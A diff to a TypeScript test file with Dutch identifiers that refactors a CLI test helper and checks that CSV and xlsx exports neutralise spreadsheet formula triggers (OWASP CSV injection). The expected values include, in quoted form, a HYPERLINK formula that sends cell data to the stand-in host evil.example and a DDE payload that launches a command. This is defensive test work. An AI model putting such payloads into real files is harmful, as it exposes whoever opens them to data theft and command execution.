@@ -8,12 +8,12 @@ import os from 'node:os';
 import path from 'node:path';
 import { parse as parseCsv } from 'csv-parse/sync';
 import iconv from 'iconv-lite';
-import { runListsCli, type CliIo } from '@shared/cli/lists';
 import { getListDefinition } from '@shared/lists/definitions';
 import { CelFout, coerceCell, decodeerBestand, itemsToCsv, leesNederlandsGetal, parseCsvItems } from '@shared/lists/import-file';
 import { herstelFormule, neutraliseerFormule } from '@shared/lists/formule-cel';
 import { SqliteListStore } from '@shared/store/sqlite-list-store';
 import { queryAll } from '@shared/store/list-store';
+import { listsCli } from '../support/lists-cli';
 
 let dir: string;
 let db: string;
@@ -23,13 +23,7 @@ beforeEach(() => {
 });
 afterEach(() => fs.rmSync(dir, { recursive: true, force: true }));
 
-async function lists(...argv: string[]) {
-  let out = '';
-  let err = '';
-  const io: CliIo = { out: (s) => (out += s), err: (s) => (err += s), env: { INTEGRITEITSPLEIN_DB: db, STORE: 'sqlite' } };
-  const code = await runListsCli(argv, io);
-  return { code, out, err };
-}
+const lists = (...argv: string[]) => listsCli(db)(...argv);
 async function inStore<T>(fn: (s: SqliteListStore) => Promise<T>): Promise<T> {
   const s = new SqliteListStore(db);
   try {
@@ -58,7 +52,7 @@ describe('CSV and xlsx exports neutralise formula triggers (OWASP CSV injection)
     await inStore((s) => s.addMany('AmbtseedSessies', sessies as never));
     const exp = await lists('export', '--list', 'AmbtseedSessies', '--format', 'csv');
     expect(exp.code).toBe(0);
-    const rows = parseCsv(exp.out.replace(/^\uFEFF/, ''), { delimiter: ';', columns: true }) as Record<string, string>[];
+    const rows = parseCsv<Record<string, string>>(exp.out.replace(/^\uFEFF/, ''), { delimiter: ';', columns: true });
     expect(rows.map((r) => r.locatie)).toEqual([
       `'=HYPERLINK("http://evil.example/?d="&A1,"klik")`,
       "'+cmd|' /C calc'!A0",
@@ -83,7 +77,7 @@ describe('CSV and xlsx exports neutralise formula triggers (OWASP CSV injection)
   test('a tab or carriage return at the start of a note is neutralised and restored', () => {
     for (const tekst of ['\tstart met tab', '\rstart met CR']) {
       const csv = itemsToCsv('Dilemmas', [{ dilemmaId: 'D-1', titel: 'Titel', tekst, opties: '["a","b"]', thema: 'zakelijk', bron: 'eigen' }]);
-      const cel = (parseCsv(csv.replace(/^\uFEFF/, ''), { delimiter: ';', columns: true }) as Record<string, string>[])[0].tekst;
+      const cel = parseCsv<Record<string, string>>(csv.replace(/^\uFEFF/, ''), { delimiter: ';', columns: true })[0].tekst;
       expect(cel).toBe(`'${tekst}`);
       expect(herstelFormule(cel)).toBe(tekst);
     }
@@ -94,7 +88,7 @@ describe('CSV and xlsx exports neutralise formula triggers (OWASP CSV injection)
   });
 
   test('a negative number in a number column is written as a number, without a quote', () => {
-    const csv = itemsToCsv('DilemmaStemmen', [{ stemId: 'x', dilemmaId: 'D-1', week: '2026-W10', optie: -1 } as never]);
+    const csv = itemsToCsv('DilemmaStemmen', [{ stemId: 'x', dilemmaId: 'D-1', week: '2026-W10', optie: -1 }]);
     expect(csv).toContain(';-1\r\n');
   });
 });
